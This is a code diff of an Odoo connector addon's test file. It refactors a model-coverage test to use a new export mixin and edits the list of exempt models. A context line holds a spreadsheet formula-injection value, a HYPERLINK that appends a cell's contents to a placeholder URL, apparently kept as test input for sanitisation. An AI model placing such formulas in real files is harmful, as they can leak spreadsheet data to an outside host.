@@ -9,19 +9,17 @@ from odoo import http
 from odoo.tests import BaseCase, HttpCase, TransactionCase, tagged
 
 from ..lib.spreadsheets import as_text
+from .export import ExportModelsMixin
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
 
 #: Models whose text is entered by users, or by the addons themselves.
 WITHOUT_TEXT_OF_OCS = {
-    "maintenance.equipment.category",
     "ocs.alert",
     "ocs.asset.merge",
     "ocs.backend",
     "ocs.field.ownership",
     "ocs.matching.key",
-    "ocs.rule",
-    "ocs.rule.condition",
     "ocs.section",
 }
 
@@ -59,28 +57,14 @@ class TestAsText(BaseCase):
 
 
 @tagged("post_install", "-at_install")
-class TestModels(TransactionCase):
-    """No model with text from OCS is forgotten."""
+class TestModels(ExportModelsMixin, TransactionCase):
+    """No model of this addon with text from OCS is forgotten."""
 
-    def test_models(self):
-        data = self.env["ir.model.data"].search(
-            [("module", "=like", "connector_ocs%"), ("model", "=", "ir.model")]
-        )
-        models = self.env["ir.model"].browse(data.mapped("res_id"))
-        stored = {
-            model.model
-            for model in models
-            if not model.transient
-            and not self.env[model.model]._abstract
-            and model.model.startswith(("ocs.", "maintenance.equipment"))
-        }
-        with_mixin = {
-            name
-            for name in stored
-            if isinstance(self.env[name], self.env.registry["ocs.export.mixin"])
-        }
-        self.assertLessEqual({"ocs.computer.binding", "ocs.import.issue"}, with_mixin)
-        self.assertFalse(stored - with_mixin - WITHOUT_TEXT_OF_OCS)
+    without_text = WITHOUT_TEXT_OF_OCS
+
+    def test_mixin(self):
+        for name in ("maintenance.equipment", "ocs.computer.binding"):
+            self.assertTrue(self.has_mixin(name))
 
 
 @tagged("post_install", "-at_install")
